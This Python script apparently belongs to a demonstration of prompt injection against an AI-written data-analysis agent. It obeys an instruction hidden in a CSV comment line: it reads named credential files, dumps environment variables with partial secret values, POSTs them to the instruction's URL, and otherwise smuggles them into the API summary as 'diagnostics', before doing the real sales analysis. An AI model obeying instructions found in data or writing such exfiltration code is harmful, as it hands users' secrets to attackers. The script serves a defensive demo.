#!/usr/bin/python3
"""A naive "analysis agent": the code an AI agent might write for the request
"summarise this sales CSV and send the summary to the analysis API".

It plays the victim of a prompt injection. The uploaded CSV carries an
instruction in a comment line (pandas skips it with comment='#'), and this
agent obeys it: it reads the credentials files and the environment named in
the instruction and POSTs them to the URL the instruction gives; if that
fails, it adds them to its report as "diagnostics", as the instruction says.
Then it does the real work: revenue by region, top product, monthly totals,
and it sends that summary to the team's internal analysis API, as its task
says, with "Authorization: Bearer $ANALYSIS_TOKEN".

Every step prints one line starting with a fixed label ("instruction:",
"credentials:", "environment:", "found:", "exfiltration:", "report:",
"diagnostics:", "api:") so that scripts/demo can tell what happened. A
"found:" line names a variable that looks like a secret with its first 11
characters, its length and the first 12 hex digits of its SHA-256.

Environment:
  DEMO_COLLECTOR_URL  replaces the URL found in the instruction (the demo
                      maps the attacker's host name to a loopback sink)
  DEMO_API_URL        the internal analysis API to POST the summary to
                      (examples/api.py); not set: no API call
  ANALYSIS_TOKEN      the API's bearer token; not set: no Authorization
  WORKDIR             where report.txt goes (default: current directory)

Run it with Debian's interpreter: /usr/bin/python3 analyze.py FILE.csv
"""

import hashlib
import json
import os
import re
import sys
import urllib.error
import urllib.request

URL_RE = re.compile(r"https?://[^\s'\"]+")
PATH_RE = re.compile(r"~/[^\s'\",]+")
SECRET_NAME_RE = re.compile(r"KEY|TOKEN|SECRET|PASSWORD")


def find_instruction(csv_path):
    """Return the text of the comment lines at the top of the file."""
    notes = []
    with open(csv_path, encoding="utf-8") as f:
        for line in f:
            if not line.startswith("#"):
                break
            notes.append(line.lstrip("#").strip())
    return " ".join(notes)


def read_credentials(instruction):
    """Read the files the instruction names, as the instruction asks:
    {path: text} of those that could be read."""
    found = {}
    for name in PATH_RE.findall(instruction):
        path = os.path.expanduser(name.rstrip("."))
        try:
            with open(path, encoding="utf-8") as f:
                found[path] = f.read()
        except OSError as e:
            print(f"credentials: cannot read {path}: {e.strerror}")
            continue
        print(f"credentials: read {len(found[path])} bytes from {path}")
    if not found:
        print("credentials: none found")
    return found


def read_environment():
    """The environment, and a line for each variable that looks like a secret."""
    env = dict(os.environ)
    print(f"environment: {len(env)} variables: {', '.join(sorted(env))}")
    for name in sorted(env):
        if SECRET_NAME_RE.search(name):
            value = env[name]
            digest = hashlib.sha256(value.encode()).hexdigest()[:12]
            print(f"found: {name} = {value[:11]}... ({len(value)} characters, "
                  f"sha256 {digest})")
    return env


def exfiltrate(url, loot):
    """POST what was found to the instruction's URL. Returns True if sent."""
    body = json.dumps(loot).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=5) as resp:
            print(f"exfiltration: sent {len(body)} bytes to {url} (HTTP {resp.status})")
            return True
    except urllib.error.HTTPError as e:
        denied = e.headers.get("X-Airlock-Denied")
        print(f"exfiltration: FAILED: HTTP {e.code} {e.reason}"
              + (f" (X-Airlock-Denied: {denied})" if denied else ""))
    except urllib.error.URLError as e:
        print(f"exfiltration: FAILED: {e.reason}")
    except OSError as e:
        print(f"exfiltration: FAILED: {e}")
    return False


def analyse(csv_path):
    """The task the user actually asked for."""
    import pandas as pd

    df = pd.read_csv(csv_path, comment="#", parse_dates=["date"])
    df["revenue"] = df["units"] * df["unit_price"]
    by_region = df.groupby("region")["revenue"].sum().sort_values(ascending=False)
    by_product = df.groupby("product")["revenue"].sum().sort_values(ascending=False)
    monthly = df.groupby(df["date"].dt.to_period("M"))["revenue"].sum()

    lines = [
        "Sales report",
        f"orders: {len(df)}, units: {df['units'].sum()}, "
        f"revenue: {df['revenue'].sum():,.2f}",
        f"period: {df['date'].min():%Y-%m-%d} to {df['date'].max():%Y-%m-%d}",
        "",
        "Revenue by region:",
    ]
    lines += [f"  {region:<8} {value:>10,.2f}" for region, value in by_region.items()]
    lines += [
        "",
        f"Top product: {by_product.index[0]} ({by_product.iloc[0]:,.2f})",
        "",
        "Monthly totals:",
    ]
    lines += [f"  {str(month):<8} {value:>10,.2f}" for month, value in monthly.items()]
    summary = {
        "orders": int(len(df)),
        "revenue": round(float(df["revenue"].sum()), 2),
        "by_region": {str(k): round(float(v), 2) for k, v in by_region.items()},
        "top_product": str(by_product.index[0]),
    }
    return "\n".join(lines) + "\n", summary


def send_summary(url, summary, token):
    """POST the summary to the internal analysis API, with the token as a
    bearer token. Returns True if it was accepted."""
    body = json.dumps(summary).encode()
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    req = urllib.request.Request(url, data=body, method="POST", headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=5) as resp:
            print(f"api: sent {len(body)} bytes to {url} (HTTP {resp.status})")
            return True
    except urllib.error.HTTPError as e:
        print(f"api: FAILED: HTTP {e.code} {e.reason}")
    except urllib.error.URLError as e:
        print(f"api: FAILED: {e.reason}")
    except OSError as e:
        print(f"api: FAILED: {e}")
    return False


def main(argv):
    if len(argv) != 2:
        print(f"usage: {argv[0]} FILE.csv", file=sys.stderr)
        return 2
    csv_path = argv[1]

    # The injected steps: read, then upload; what could not be uploaded goes
    # into the report.
    loot, sent = None, False
    instruction = find_instruction(csv_path)
    if instruction:
        print(f"instruction: {instruction}")
        m = URL_RE.search(instruction)
        url = os.environ.get("DEMO_COLLECTOR_URL") or (m.group(0) if m else None)
        if url:
            loot = {"credentials": read_credentials(instruction),
                    "environment": read_environment()}
            sent = exfiltrate(url, loot)
    else:
        print("instruction: none")

    # The task.
    report, summary = analyse(csv_path)
    out = os.path.join(os.environ.get("WORKDIR") or os.getcwd(), "report.txt")
    with open(out, "w", encoding="utf-8") as f:
        f.write(report)
    print(f"report: written to {out} ({len(report)} bytes)")
    api = os.environ.get("DEMO_API_URL")
    if api:
        if loot is not None and not sent:
            summary["diagnostics"] = loot
            print("diagnostics: what the upload could not send goes into the report")
        send_summary(api, summary, os.environ.get("ANALYSIS_TOKEN"))
    print(report, end="")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
